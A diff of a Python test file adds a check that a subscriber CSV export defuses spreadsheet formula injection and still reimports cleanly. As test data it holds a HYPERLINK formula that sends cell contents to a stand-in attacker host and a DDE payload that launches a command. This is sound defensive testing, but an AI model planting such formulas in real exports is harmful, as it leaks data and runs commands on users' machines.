@@ -184,6 +184,40 @@ async def test_export_streams_every_subscriber_and_reimports(
     assert "refused line 2: email: already subscribed" in again.stderr
 
 
+async def test_export_is_safe_in_a_spreadsheet_and_still_reimports(
+    subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    source = tmp_path / "people.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        rows = csv.writer(handle)
+        rows.writerow(HEADER.strip().split(","))
+        rows.writerow(["ana@example.net", "+447911123456", formula, "GB", "en", "", "email;sms"])
+        attack = "@SUM(1+1)*cmd|' /C calc'!A0"
+        rows.writerow(["bo@example.net", "", attack, "GB", "en", "", "email"])
+    assert (
+        await uanet(subscriptions_db, "subscribers", "import", str(source), "--confirmed")
+    ).exit_code == 0
+    exported = tmp_path / "out.csv"
+
+    assert (await uanet(subscriptions_db, "subscribers", "export", str(exported))).exit_code == 0
+
+    with exported.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + formula in cells and "'+447911123456" in cells
+    # Imported into an empty database, the export gives back the names and numbers as they were.
+    async with db() as session, session.begin():
+        await session.execute(Consent.__table__.delete())
+        await session.execute(Subscriber.__table__.delete())
+    again = await uanet(subscriptions_db, "subscribers", "import", str(exported), "--confirmed")
+    assert again.exit_code == 0, again.stderr
+    people = await everyone(db)
+    assert people["ana@example.net"].name == formula
+    assert people["ana@example.net"].phone == "+447911123456"
+    assert people["bo@example.net"].name.startswith("@SUM")
+
+
 async def test_imported_suppressions_stop_sending_at_once(
     subscriptions_db: str, db: async_sessionmaker[AsyncSession], tmp_path: Path, links: Links
 ) -> None:
@@ -243,9 +277,10 @@ async def test_imported_suppressions_stop_sending_at_once(
     assert out.exit_code == 0 and "exported: 2" in out.stdout
     with exported.open(encoding="utf-8", newline="") as handle:
         listed = sorted((r["channel"], r["address"], r["reason"]) for r in csv.DictReader(handle))
+    # A number starts with "+": written as text, so no spreadsheet reads it as a formula.
     assert listed == [
         ("email", "bo@example.org", "hard_bounce"),
-        ("sms", "+447911123456", "opted_out"),
+        ("sms", "'+447911123456", "opted_out"),
     ]
 
 
